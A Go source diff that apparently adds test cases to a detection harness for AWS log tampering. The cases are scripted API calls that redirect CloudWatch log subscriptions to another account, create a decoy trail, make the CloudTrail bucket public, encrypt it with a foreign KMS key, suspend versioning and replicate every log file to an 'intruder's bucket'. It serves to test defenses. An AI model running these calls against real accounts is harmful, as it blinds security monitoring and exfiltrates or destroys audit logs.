@@ -74,6 +74,29 @@ func Attacks() []Attack {
 				"destinationArn": "arn:aws:logs:" + Region + ":444455556666:destination:security",
 			}),
 			sdk((*cloudwatchlogs.Client).DeleteSubscriptionFilter, input{"logGroupName": "${trail-log-group}", "filterName": "to-security"})),
+		reports("logs PutSubscriptionFilter, over somebody's feed", Region, disableLogs,
+			feed(""), feed(`"never-there"`)).
+			undoneBy(sdk((*cloudwatchlogs.Client).DeleteSubscriptionFilter, input{"logGroupName": "${trail-log-group}", "filterName": "siem"})),
+		reports("logs PutSubscriptionFilter, flow logs' to another account", Region, disableLogs,
+			sdk((*cloudwatchlogs.Client).PutSubscriptionFilter, input{
+				"logGroupName": "${flow-log-group}", "filterName": "siem", "filterPattern": "",
+				"destinationArn": "arn:aws:logs:" + Region + ":444455556666:destination:elsewhere",
+			})).
+			undoneBy(sdk((*cloudwatchlogs.Client).DeleteSubscriptionFilter, input{"logGroupName": "${flow-log-group}", "filterName": "siem"})),
+		reports("logs PutDestination, to another stream", Region, disableLogs, destination()).
+			undoneBy(cli("logs", "DeleteDestination", input{"destinationName": "security"})),
+		reports("logs PutDestinationPolicy, nobody may send", Region, disableLogs, destination(),
+			cli("logs", "PutDestinationPolicy", input{"destinationName": "security", "accessPolicy": *document(map[string]any{
+				"Effect": "Deny", "Principal": "*", "Action": "logs:PutSubscriptionFilter", "Resource": "*",
+			})})).
+			undoneBy(cli("logs", "DeleteDestination", input{"destinationName": "security"})),
+		reports("logs DeleteDestination", Region, disableLogs, destination(), cli("logs", "DeleteDestination", input{"destinationName": "security"})),
+		reports("logs DeleteAccountPolicy, everybody's feed", Region, disableLogs,
+			sdk((*cloudwatchlogs.Client).PutAccountPolicy, input{
+				"policyName": "siem", "policyType": "SUBSCRIPTION_FILTER_POLICY", "scope": "ALL",
+				"policyDocument": `{"DestinationArn":"arn:aws:logs:` + Region + `:444455556666:destination:security","FilterPattern":"","Distribution":"Random"}`,
+			}),
+			cli("logs", "DeleteAccountPolicy", input{"policyName": "siem", "policyType": "SUBSCRIPTION_FILTER_POLICY"})),
 		reports("logs PutDataProtectionPolicy, the trail's", Region, disableLogs,
 			sdk((*cloudwatchlogs.Client).PutDataProtectionPolicy, input{"logGroupIdentifier": "${trail-log-group}", "policyDocument": masking})).
 			undoneBy(sdk((*cloudwatchlogs.Client).DeleteDataProtectionPolicy, input{"logGroupIdentifier": "${trail-log-group}"})),
@@ -147,6 +170,9 @@ func Attacks() []Attack {
 		})),
 		reports("cloudtrail UpdateTrail, to another bucket", Region, disableLogs, toSpareBucket()...).
 			undoneBy(sdk((*cloudtrail.Client).UpdateTrail, input{"Name": TrailName, "S3BucketName": TrailBucket}), cli("s3api", "DeleteBucket", input{"Bucket": spareBucket})),
+		reports("cloudtrail CreateTrail, a decoy", Region, disableLogs, cli("s3api", "CreateBucket", input{"Bucket": spareBucket}), bucketPolicy(spareBucket, *TrailBucketPolicy(spareBucket)),
+			cli("cloudtrail", "CreateTrail", input{"Name": "decoy", "S3BucketName": spareBucket})).
+			undoneBy(cli("cloudtrail", "DeleteTrail", input{"Name": "decoy"}), cli("s3api", "DeleteBucket", input{"Bucket": spareBucket})),
 		heals("cloudtrail DeleteTrail", Region, disableLogs, cli("cloudtrail", "DeleteTrail", input{"Name": TrailName})),
 		heals("cloudtrail DeleteTrail, pointed at another bucket before", Region, disableLogs,
 			append(toSpareBucket(), sdk((*cloudtrail.Client).DeleteTrail, input{"Name": TrailName}))...),
@@ -209,6 +235,37 @@ func Attacks() []Attack {
 			undoneBy(bucketPolicy(TrailBucket, *TrailBucketPolicy(TrailBucket))),
 		reports("s3 DeleteBucketPolicy", Region, disableLogs, cli("s3api", "DeleteBucketPolicy", input{"Bucket": TrailBucket})).
 			undoneBy(bucketPolicy(TrailBucket, *TrailBucketPolicy(TrailBucket))),
+		reports("s3 PutBucketVersioning, suspended", Region, destroyData, onBucket("PutBucketVersioning", "VersioningConfiguration", input{"Status": "Suspended"})),
+		reports("s3 PutBucketEncryption, another account's key", Region, encryptData, onBucket("PutBucketEncryption", "ServerSideEncryptionConfiguration", input{
+			"Rules": []input{{"ApplyServerSideEncryptionByDefault": input{
+				"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": "arn:aws:kms:" + Region + ":444455556666:key/1234abcd-12ab-34cd-56ef-1234567890ab",
+			}}},
+		})).undoneBy(cli("s3api", "DeleteBucketEncryption", input{"Bucket": TrailBucket})),
+		reports("s3 DeleteBucketEncryption", Region, disableLogs, cli("s3api", "DeleteBucketEncryption", input{"Bucket": TrailBucket})),
+		reports("s3 PutBucketAcl, public", Region, changeAccount, onBucket("PutBucketAcl", "ACL", "public-read")).
+			undoneBy(onBucket("PutBucketAcl", "ACL", "private")),
+		reports("s3 PutBucketOwnershipControls, of the writer", Region, changeAccount, onBucket("PutBucketOwnershipControls", "OwnershipControls", input{
+			"Rules": []input{{"ObjectOwnership": "ObjectWriter"}},
+		})).undoneBy(cli("s3api", "DeleteBucketOwnershipControls", input{"Bucket": TrailBucket})),
+		reports("s3 DeleteBucketOwnershipControls", Region, changeAccount,
+			onBucket("PutBucketOwnershipControls", "OwnershipControls", input{"Rules": []input{{"ObjectOwnership": "BucketOwnerEnforced"}}}),
+			cli("s3api", "DeleteBucketOwnershipControls", input{"Bucket": TrailBucket})),
+		reports("s3 PutBucketPublicAccessBlock, off", Region, changeAccount, cli("s3api", "PutPublicAccessBlock", input{
+			"Bucket": TrailBucket, "PublicAccessBlockConfiguration": input{
+				"BlockPublicAcls": false, "IgnorePublicAcls": false, "BlockPublicPolicy": false, "RestrictPublicBuckets": false,
+			},
+		})).undoneBy(cli("s3api", "DeletePublicAccessBlock", input{"Bucket": TrailBucket})),
+		reports("s3 DeleteBucketPublicAccessBlock", Region, changeAccount, cli("s3api", "DeletePublicAccessBlock", input{"Bucket": TrailBucket})),
+		reports("s3 PutBucketReplication, to somebody's bucket", Region, transferData,
+			onBucket("PutBucketVersioning", "VersioningConfiguration", input{"Status": "Enabled"}),
+			cli("s3api", "CreateBucket", input{"Bucket": spareBucket}),
+			cli("s3api", "PutBucketVersioning", input{"Bucket": spareBucket, "VersioningConfiguration": input{"Status": "Enabled"}}),
+			onBucket("PutBucketReplication", "ReplicationConfiguration", replication())).
+			undoneBy(cli("s3api", "DeleteBucketReplication", input{"Bucket": TrailBucket}), cli("s3api", "DeleteBucket", input{"Bucket": spareBucket})),
+		reports("s3 DeleteBucketReplication", Region, disableLogs, cli("s3api", "DeleteBucketReplication", input{"Bucket": TrailBucket})),
+		reports("s3 PutBucketObjectLockConfiguration, none", Region, destroyData,
+			onBucket("PutBucketVersioning", "VersioningConfiguration", input{"Status": "Enabled"}),
+			cli("s3api", "PutObjectLockConfiguration", input{"Bucket": TrailBucket, "ObjectLockConfiguration": input{"ObjectLockEnabled": "Enabled"}})),
 		reports("s3 PutBucketLifecycle, a day", Region, expireData, cli("s3api", "PutBucketLifecycleConfiguration", input{
 			"Bucket": TrailBucket,
 			"LifecycleConfiguration": input{"Rules": []input{
@@ -268,6 +325,35 @@ func flowLogTo(vpc, bucket string) Call {
 		"ResourceIds": []string{vpc}, "ResourceType": types.FlowLogsResourceTypeVpc, "TrafficType": types.TrafficTypeAccept,
 		"LogDestinationType": types.LogDestinationTypeS3, "LogDestination": "arn:aws:s3:::" + bucket,
 	})
+}
+
+// feed makes the trail's log group send what a pattern selects to a destination.
+func feed(pattern string) Call {
+	return sdk((*cloudwatchlogs.Client).PutSubscriptionFilter, input{
+		"logGroupName": "${trail-log-group}", "filterName": "siem", "filterPattern": pattern,
+		"destinationArn": "arn:aws:logs:" + Region + ":444455556666:destination:security",
+	})
+}
+
+// destination makes a destination for the records of other log groups.
+func destination() Call {
+	return cli("logs", "PutDestination", input{
+		"destinationName": "security", "targetArn": "arn:aws:kinesis:" + Region + ":" + Account + ":stream/security",
+		"roleArn": "arn:aws:iam::" + Account + ":role/to-stream",
+	})
+}
+
+// onBucket changes one setting of the trail's bucket.
+func onBucket(operation, member string, value any) Call {
+	return cli("s3api", operation, input{"Bucket": TrailBucket, member: value})
+}
+
+// replication copies every log file to the intruder's bucket.
+func replication() input {
+	return input{"Role": "arn:aws:iam::" + Account + ":role/replication", "Rules": []input{{
+		"ID": "out", "Status": "Enabled", "Priority": 1, "Filter": input{"Prefix": ""},
+		"DeleteMarkerReplication": input{"Status": "Disabled"}, "Destination": input{"Bucket": "arn:aws:s3:::" + spareBucket},
+	}}}
 }
 
 func bucketPolicy(bucket, policy string) Call {
